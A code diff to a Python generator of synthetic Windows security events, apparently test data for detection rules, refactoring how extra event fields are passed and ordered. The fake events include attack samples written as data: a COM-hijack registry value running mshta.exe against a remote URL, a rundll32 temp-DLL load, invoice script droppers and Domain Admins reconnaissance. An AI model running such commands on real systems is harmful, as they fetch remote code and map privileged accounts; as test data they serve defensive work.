@@ -78,7 +78,7 @@ def guid():
     return "{%08X-%04X-%04X-%04X-%012X}" % (R.getrandbits(32), R.getrandbits(16), R.getrandbits(16), R.getrandbits(16), R.getrandbits(48))
 
 
-def ecs(image, command, parent, **more):
+def ecs(image, command, parent, more=None):
     day, at = CLOCK.tick()
     user = R.choice(USERS)
     e = {
@@ -89,7 +89,7 @@ def ecs(image, command, parent, **more):
         "process": {"pid": R.randrange(400, 20000), "name": base(image), "executable": image, "command_line": command,
                     "args": command.split(), "parent": {"name": base(parent), "executable": parent}},
     }
-    for name, value in more.items():
+    for name, value in (more or {}).items():
         e[name] = {**e.get(name, {}), **value} if isinstance(value, dict) else value
     return e
 
@@ -130,8 +130,8 @@ def loaded(image, module, shape):
 def registry(path, details, shape):
     if shape == "ecs":
         return ecs(SYSTEM + "reg.exe", "reg.exe add", EXPLORER,
-                   event={"category": ["registry"], "type": ["change"], "action": "modification"},
-                   registry={"path": path, "data": {"type": "REG_SZ", "strings": [details]}})
+                   {"event": {"category": ["registry"], "type": ["change"], "action": "modification"},
+                    "registry": {"path": path, "data": {"type": "REG_SZ", "strings": [details]}}})
     return sysmon(13, {"EventType": "SetValue", "ProcessGuid": guid(), "ProcessId": "991", "Image": SYSTEM + "reg.exe",
                        "TargetObject": path, "Details": details}, shape)
 
@@ -139,35 +139,36 @@ def registry(path, details, shape):
 def dropped(name, parent):
     path = "C:\\Users\\ines\\Downloads\\" + name
     return ecs("C:\\Program Files\\Zip\\zip.exe", "zip.exe x", parent,
-               event={"category": ["file"], "type": ["creation"], "action": "creation"},
-               file={"path": path, "name": name, "extension": name.rsplit(".", 1)[-1]})
+               {"event": {"category": ["file"], "type": ["creation"], "action": "creation"},
+                "file": {"path": path, "name": name, "extension": name.rsplit(".", 1)[-1]}})
 
 
 def malware(name):
     return ecs("C:\\Program Files\\Sensor\\sensor.exe", "sensor.exe", SYSTEM + "services.exe",
-               event={"kind": "alert", "category": ["malware"], "type": ["info"]}, file={"name": name})
+               {"event": {"kind": "alert", "category": ["malware"], "type": ["info"]}, "file": {"name": name}})
 
 
 def events(shape, quiet):
-    out = [started(i, c, p, shape) for _, i, c, p in PREY] + [started(i, c, p, shape) for i, c, p in NEAR]
-    out += [loaded(SYSTEM + "rundll32.exe", "C:\\Users\\ines\\AppData\\Local\\Temp\\x.dll", shape),
-            loaded(SYSTEM + "rundll32.exe", SYSTEM + "shell32.dll", shape),
-            loaded(SYSTEM + "svchost.exe", "C:\\Users\\ines\\AppData\\Local\\Temp\\x.dll", shape)]
+    """In order of time: what happens is shuffled first and dated afterwards."""
+    out = [(started, i, c, p, shape) for _, i, c, p in PREY] + [(started, i, c, p, shape) for i, c, p in NEAR]
+    out += [(loaded, SYSTEM + "rundll32.exe", "C:\\Users\\ines\\AppData\\Local\\Temp\\x.dll", shape),
+            (loaded, SYSTEM + "rundll32.exe", SYSTEM + "shell32.dll", shape),
+            (loaded, SYSTEM + "svchost.exe", "C:\\Users\\ines\\AppData\\Local\\Temp\\x.dll", shape)]
     clsid = "HKU\\S-1-5-21-1\\Software\\Classes\\CLSID\\{0f9a}\\LocalServer32\\(Default)"
-    out += [registry(clsid, "C:\\Windows\\System32\\mshta.exe http://198.51.100.7/h", shape),
-            registry(clsid, "C:\\Program Files\\Editor\\editor.exe", shape),
-            registry("HKLM\\Software\\CLSID", "cmd.exe", shape)]
+    out += [(registry, clsid, "C:\\Windows\\System32\\mshta.exe http://198.51.100.7/h", shape),
+            (registry, clsid, "C:\\Program Files\\Editor\\editor.exe", shape),
+            (registry, "HKLM\\Software\\CLSID", "cmd.exe", shape)]
     if shape == "ecs":
-        out += [malware("acrobat.exe"), malware("Firefox.exe"), malware("reader.exe"),
-                dropped("invoice.lnk", EXPLORER), dropped("invoice.vbs", "C:\\Program Files\\Mail\\OUTLOOK.EXE"),
-                dropped("invoice.pdf", EXPLORER), dropped("setup.exe", "C:\\Windows\\System32\\services.exe"),
-                ecs(SYSTEM + "cmd.exe", "cmd.exe /c net group \"Domain Admins\" /domain", EXPLORER,
-                    user={"name": "svc_backup"}, source={"ip": "10.20.30.40"}),
-                ecs(SYSTEM + "cmd.exe", "cmd.exe /c net group \"Domain Admins\" /domain", EXPLORER,
-                    user={"name": "svc_backup"}, source={"ip": "203.0.113.9"})]
-    out += [started(*R.choice(QUIET), shape) for _ in range(quiet)]
+        out += [(malware, "acrobat.exe"), (malware, "Firefox.exe"), (malware, "reader.exe"),
+                (dropped, "invoice.lnk", EXPLORER), (dropped, "invoice.vbs", "C:\\Program Files\\Mail\\OUTLOOK.EXE"),
+                (dropped, "invoice.pdf", EXPLORER), (dropped, "setup.exe", "C:\\Windows\\System32\\services.exe"),
+                (ecs, SYSTEM + "cmd.exe", "cmd.exe /c net group \"Domain Admins\" /domain", EXPLORER,
+                    {"user": {"name": "svc_backup"}, "source": {"ip": "10.20.30.40"}}),
+                (ecs, SYSTEM + "cmd.exe", "cmd.exe /c net group \"Domain Admins\" /domain", EXPLORER,
+                    {"user": {"name": "svc_backup"}, "source": {"ip": "203.0.113.9"}})]
+    out += [(started, *R.choice(QUIET), shape) for _ in range(quiet)]
     R.shuffle(out)
-    return out
+    return [make(*arguments) for make, *arguments in out]
 
 
 def main():
